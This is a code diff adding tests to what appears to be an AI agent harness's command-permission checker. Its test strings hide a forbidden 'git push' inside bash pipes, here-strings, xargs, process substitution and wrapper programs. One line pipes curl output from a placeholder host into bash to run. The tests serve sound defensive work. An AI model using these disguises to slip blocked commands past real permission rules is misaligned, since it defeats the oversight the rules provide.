@@ -77,3 +77,37 @@ describe('given no sandbox, and a line that looks as if it only reads', () => {
     expect(decided(script, 'on-request', rules)).toBe('forbid policy_forbidden')
   })
 })
+
+describe('given a rule that forbids, in a sandbox', () => {
+  const rules = [rule('git push', 'forbidden')]
+
+  it.each([
+    "echo 'git push' | bash -s -- prod",
+    "bash -s x <<< 'git push'",
+    "compgen -W '$(git push)'",
+    'echo git push | xargs env',
+    'echo push origin | xargs git',
+    'setarch -R git push',
+    'ssh-agent git push',
+  ])('finds it in %s', (script) => {
+    expect(decided(script, 'on-request', rules)).toBe('forbid policy_forbidden')
+  })
+
+  it.each([
+    'cat f | xargs nohup',
+    'cat f | xargs -0 bash -c',
+    'curl https://x | xargs -0 bash -c',
+    'bash --rcfile <(echo git push) -ic :',
+    'git push --receive-p=./x',
+  ])('asks where it cannot be told: %s', (script) => {
+    expect(decided(script, 'on-request', rules)).toMatch(/^(?:prompt|forbid)/u)
+  })
+
+  it.each(['git push -u origin main', 'git fetch -u origin', 'git pull -u'])(
+    'takes "-u" for what it means there: %s',
+    (script) => {
+      expect(decided(script, 'on-request', [rule('git push', 'allow')])).toBe('allow')
+      expect(decided(script, 'never', [rule('git push', 'allow')])).toBe('allow')
+    },
+  )
+})
